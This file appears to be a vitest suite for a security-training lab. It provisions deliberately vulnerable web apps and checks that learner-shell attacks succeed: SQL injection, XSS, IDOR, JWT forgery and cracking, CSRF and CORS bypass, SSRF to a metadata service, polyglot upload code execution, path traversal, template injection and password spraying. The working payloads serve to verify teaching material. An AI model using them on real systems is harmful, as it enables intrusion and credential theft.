import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { shippedContentDir } from '@bastion/content';
import type { LabFile, LabSpec } from '../lab-spec.ts';
import { LabRunner } from './lab-runner.ts';

const bootTimeoutMs = 300_000;
/**
 * Five Python applications in one process, the thumbnail service and the metadata service: 10–20 s idle, far more on
 * a loaded host.
 */
const setupTimeoutMs = 300_000;
const targetsDir = path.join(shippedContentDir, 'targets');

/**
 * Every file of the targets, laid out in the lab as in the content folder, readable by the service alone; the
 * metadata service's own machine has its own copy of `weblab`, under its account.
 */
async function targetFiles(): Promise<LabFile[]> {
  const files: LabFile[] = [];
  for (const entry of await readdir(targetsDir, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const relative = path.relative(targetsDir, path.join(entry.parentPath, entry.name));
    const content = await readFile(path.join(targetsDir, relative), 'utf8');
    const imds = relative.startsWith('metadata/');
    files.push({
      path: `/srv/${imds ? 'imds' : 'targets'}/${relative}`,
      content,
      owner: imds ? 'imds' : 'www-data',
      mode: '0640',
    });
    if (relative.startsWith('weblab/'))
      files.push({ path: `/srv/imds/${relative}`, content, owner: 'imds', mode: '0640' });
  }
  return files;
}

/**
 * The learner's machine, one host serving every web target by name, the thumbnail service on an instance of its own,
 * and the instance metadata service (IMDSv1 for the first host, IMDSv2 only for the second).
 */
async function webTargetsLab(): Promise<LabSpec> {
  return {
    hostname: 'kali',
    user: 'student',
    cwd: '/home/student',
    network: { address: '169.254.10.5/16' },
    hosts: [
      {
        name: 'avatars.lab.internal',
        address: '169.254.10.20',
        aliases: ['shop.lab.internal', 'invoices.lab.internal', 'bank.lab.internal', 'support.lab.internal'],
      },
      { name: 'thumbs.lab.internal', address: '169.254.10.30' },
      { name: 'instance-metadata', address: '169.254.169.254' },
    ],
    services: [
      {
        name: 'web',
        user: 'www-data',
        host: 'avatars.lab.internal',
        cwd: '/srv/targets',
        command: 'python3 -S weblab/serve.py shop/app.py invoices/app.py bank/app.py avatars/app.py support/app.py',
        ports: [80],
      },
      {
        name: 'thumbs',
        user: 'www-data',
        host: 'thumbs.lab.internal',
        cwd: '/srv/targets',
        command: 'python3 -S weblab/serve.py thumbs/app.py',
        ports: [80],
      },
      {
        name: 'metadata',
        user: 'imds',
        host: 'instance-metadata',
        cwd: '/srv/imds',
        command: 'python3 -S weblab/serve.py metadata/app.py',
        ports: [80],
      },
    ],
    files: [
      { path: '/srv/imds', directory: true, owner: 'imds', mode: '0700' },
      ...(await targetFiles()),
      // What a lab gives its targets, each learner's own (weblab.lab_secrets); the shop's admin key is left to chance.
      {
        path: '/srv/targets/shop/secrets.env',
        content: 'OPS_API_KEY=sk_live_9b27e4d0c8a1f356\nMARKETING_API_KEY=sk_live_e05a3c92b71d4f80\n',
        owner: 'www-data',
        mode: '0600',
      },
      {
        path: '/srv/targets/support/secrets.env',
        content: 'SIGNING_KEY=11011d4fd94db2e7dfa6f052\nDEPLOY_TOKEN=dpl_Hq4vN8xT2mLw7Rc9\n',
        owner: 'www-data',
        mode: '0600',
      },
      {
        path: '/home/student/wordlist.txt',
        content: await readFile(path.join(targetsDir, 'invoices/wordlist.txt'), 'utf8'),
      },
      {
        path: '/home/student/avatar.py.gif',
        content: 'GIF89a=1\nimport os\nprint(os.popen("id -un").read())\n',
      },
      {
        path: '/home/student/cgi.py.gif',
        content: 'GIF89a=1\nprint("Status: 201 Created")\nprint("Content-Type: text/csv")\nprint()\nprint("made")\n',
      },
    ],
  };
}

let lab: LabRunner;

beforeAll(async () => {
  lab = await LabRunner.ready();
  await lab.provision(await webTargetsLab(), setupTimeoutMs);
}, bootTimeoutMs + setupTimeoutMs);

afterAll(() => lab?.destroy());

const run = (command: string) => lab.run(command, 60_000);
const shop = 'http://shop.lab.internal';
const invoices = 'http://invoices.lab.internal';
const bank = 'http://bank.lab.internal';
const support = 'http://support.lab.internal';

describe('the web targets, attacked from the learner shell as the lessons teach', () => {
  it('shop: error-based, UNION and blind boolean SQL injection', async () => {
    expect(await run(`curl -s "${shop}/search?q=lamp'"`)).toContain(
      `OperationalError: unrecognized token: "' AND visible = 1 ORDER BY name"`,
    );
    const union = await run(
      `curl -s -G --data-urlencode "q=zzz' UNION SELECT username, api_key FROM staff-- -" ${shop}/search`,
    );
    expect(union).toContain('<li>ops (sk_live_9b27e4d0c8a1f356)</li>');
    expect(union).toContain('<li>marketing (sk_live_e05a3c92b71d4f80)</li>');
    expect(union).toMatch(/<li>admin \(sk_live_[0-9a-f]{16}\)<\/li>/);
    const blind = (condition: string) => run(`curl -s -G --data-urlencode "id=1 AND ${condition}" ${shop}/stock`);
    expect(await blind(`substr((SELECT api_key FROM staff WHERE username='ops'), 9, 1) = '9'`)).toBe('in stock\n');
    expect(await blind(`substr((SELECT api_key FROM staff WHERE username='ops'), 9, 1) = '8'`)).toBe('not available\n');
  });

  it('shop: reflected and stored XSS come back unescaped; the remember-me cookie has no HttpOnly', async () => {
    expect(await run(`curl -s -G --data-urlencode 'q=<script>alert(1)</script>' ${shop}/search`)).toContain(
      '<h1>Results for <script>alert(1)</script></h1>',
    );
    await run(
      `curl -s -o /dev/null -d author=tester --data-urlencode 'body=<img src=x onerror=alert(2)>' ${shop}/product/3/reviews`,
    );
    expect(await run(`curl -s ${shop}/product/3`)).toContain('<li><b>tester</b>: <img src=x onerror=alert(2)></li>');
    const cookies = await run(`curl -si -d 'username=alice&password=wonderland' ${shop}/login | grep -i '^set-cookie'`);
    expect(cookies).toMatch(/^Set-Cookie: shop_sid=[0-9a-f]{24}; Path=\/; HttpOnly; SameSite=Lax\r?$/m);
    expect(cookies).toMatch(/^Set-Cookie: keep_me=[0-9a-f]{40}; Path=\/; Max-Age=2592000; SameSite=Lax\r?$/m);
  });

  it("invoices: alice's token reads other customers' invoices (IDOR)", async () => {
    await run(
      `token=$(curl -s -d 'username=alice&password=wonderland' ${invoices}/api/login | sed 's/.*"token": "\\([^"]*\\)".*/\\1/')`,
    );
    expect(await run(`curl -s -H "Authorization: Bearer $token" ${invoices}/api/invoices`)).toBe(
      '{"invoices": [7710, 7720, 7730, 7740]}\n',
    );
    expect(await run(`curl -s -H "Authorization: Bearer $token" ${invoices}/api/invoices/7723`)).toContain(
      '"customer": 1050, "email": "p.moreau@example.fr"',
    );
    expect(await run(`curl -s -o /dev/null -w '%{http_code}' ${invoices}/api/invoices/7723`)).toBe('401');
  });

  it('invoices: a JWT with "alg":"none" is accepted, a changed signed one is not, and the secret is in the word list', async () => {
    await run(
      `token=$(curl -s -d 'username=bob&password=builder42' ${invoices}/api/login | sed 's/.*"token": "\\([^"]*\\)".*/\\1/')`,
    );
    await run(`h=$(printf '{"alg":"none"}' | basenc --base64url | tr -d =)`);
    await run(`p=$(printf '{"sub":"1077","role":"admin","exp":4102444800}' | basenc --base64url | tr -d =)`);
    expect(await run(`curl -s -H "Authorization: Bearer $h.$p." ${invoices}/api/admin/summary`)).toBe(
      '{"invoices": 40, "unpaid": 10, "unpaid_total": "1055.10", "largest_unpaid": 7734}\n',
    );
    const forged = `$(echo "$token" | cut -d. -f1).$p.$(echo "$token" | cut -d. -f3)`;
    expect(await run(`curl -s -H "Authorization: Bearer ${forged}" ${invoices}/api/admin/summary`)).toContain(
      'missing or invalid token',
    );
    // The offline crack a learner runs: HMAC-SHA256 of header.payload with each word, compared with the signature.
    // The whole list takes minutes in the emulated lab (one openssl per word); the secret and the three words before
    // it show the same: it is in the list, and the HMAC with it, not with its neighbours, is the signature.
    await run('signed=$(echo "$token" | cut -d. -f1,2); signature=$(echo "$token" | cut -d. -f3)');
    const crack =
      'grep -x -B3 butterfly wordlist.txt | while read -r word; do [ "$(printf %s "$signed" | openssl dgst -sha256 -hmac "$word" -binary | basenc --base64url | tr -d =)" = "$signature" ] && echo "$word"; done';
    expect(await run(crack)).toBe('butterfly\n');
  });

  it('bank: a cross-site transfer without a token goes through; the email form checks its token; CORS trusts a prefix', async () => {
    expect(
      await run(`curl -si -c jar -d 'user=alice&password=wonderland' ${bank}/login | grep -i '^set-cookie'`),
    ).toMatch(/^Set-Cookie: bank_session=[0-9a-f]{24}; Path=\/; HttpOnly\r?\n$/);
    const transfer = (origin: string) =>
      run(`curl -s -b jar -H 'Origin: ${origin}' -d amount=1 -d to=DE02 ${bank}/transfer`);
    const forged = await transfer('http://attacker.lab.example');
    expect(forged).toMatch(/^Sent 1\.00 EUR from alice to DE02\. Reference: TX-[0-9A-F]{10}\n$/);
    // The reference depends on the Origin the bank accepted: the same transfer from the bank's own page differs.
    expect(await transfer(bank)).not.toBe(forged);
    expect(await run(`curl -s -b jar -d email=a@lab.example ${bank}/settings/email`)).toBe('Invalid CSRF token\n');
    const cors = (origin: string) =>
      run(`curl -s -o /dev/null -D - -b jar -H 'Origin: ${origin}' ${bank}/api/account | grep -ci '^access-control'`);
    expect(await cors('http://bank.lab.internal.attacker.example')).toBe('2\n');
    expect(await cors('http://attacker.example')).toBe('0\n');
  });

  it('avatars: the importer reaches the metadata service that ignores the learner (SSRF); IMDSv2 stops the thumbnail importer', async () => {
    expect(await run('curl -s -m 2 http://169.254.169.254/latest/meta-data/; echo "exit $?"')).toBe('exit 28\n');
    const roles = '{"url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}';
    expect(await run(`curl -s -d '${roles}' http://avatars.lab.internal/api/avatar/import`)).toBe(
      'avatars-prod-s3-writer',
    );
    expect(await run(`curl -s -d '${roles}' http://thumbs.lab.internal/api/thumbnail/import`)).toBe(
      '{"error": "the server answered 401"}\n',
    );
  });

  it('avatars: a GIF that is also Python, uploaded as .py.gif, runs on the server', async () => {
    expect(await run('curl -s -F avatar=@avatar.py.gif http://avatars.lab.internal/upload')).toBe(
      'Stored as /uploads/avatar.py.gif\n',
    );
    expect(await run('curl -s http://avatars.lab.internal/uploads/avatar.py.gif')).toBe('www-data\n\n');
    // A script that prints CGI headers gets them read as headers, as Apache's mod_cgi does, not served in the body.
    const cgi = 'http://avatars.lab.internal/uploads/cgi.py.gif';
    await run('curl -s -o /dev/null -F avatar=@cgi.py.gif http://avatars.lab.internal/upload');
    expect(await run(`curl -s -w '%{http_code} %{content_type}' ${cgi}`)).toBe('made\n201 text/csv');
    expect(await run(`printf 'GIF89a' > x.php; curl -s -F avatar=@x.php http://avatars.lab.internal/upload`)).toBe(
      'Rejected: only .gif, .png, .jpg and .jpeg files\n',
    );
  });

  it('support: path traversal past a ".." filter, and template injection to a module secret', async () => {
    expect(await run(`curl -s '${support}/manual?name=../deploy.env'`)).toBe('Bad name\n');
    expect(await run(`curl -s '${support}/manual?name=%252e%252e/deploy.env'`)).toContain(
      'DEPLOY_TOKEN=dpl_Hq4vN8xT2mLw7Rc9',
    );
    expect(
      await run(`curl -s -G --data-urlencode 'template={user.__init__.__globals__[SIGNING_KEY]}' ${support}/card`),
    ).toBe('11011d4fd94db2e7dfa6f052\n');
  });

  it('support: both logins tell users apart (by message, by size), one locks an account after 5 failures, and a spray gets through', async () => {
    const login = (user: string, password: string) =>
      run(`curl -s -d 'username=${user}&password=${password}' ${support}/login`);
    expect(await login('nobody.here', 'x')).toBe('Unknown username\n');
    const apiSizes = await run(
      `for u in nobody.here c.moretti; do curl -s -o /dev/null -w '%{http_code} %{size_download} ' -d "username=$u&password=x" ${support}/api/login; done`,
    );
    expect(apiSizes).toBe('401 43 401 44 ');
    expect(await login('a.fontaine', 'x')).toBe('Wrong password\n');
    for (let attempt = 2; attempt <= 5; attempt++) await login('a.fontaine', 'x');
    expect(await login('a.fontaine', 'Tr0ub4dor%263')).toMatch(/^Account locked/);
    const spray = await run(
      `for u in b.osei c.moretti h.larsen k.abara; do curl -s -d "username=$u&password=Spring2026%21" ${support}/login; done`,
    );
    expect(spray).toBe('Welcome, b.osei\nWrong password\nWelcome, h.larsen\nWrong password\n');
  });
});
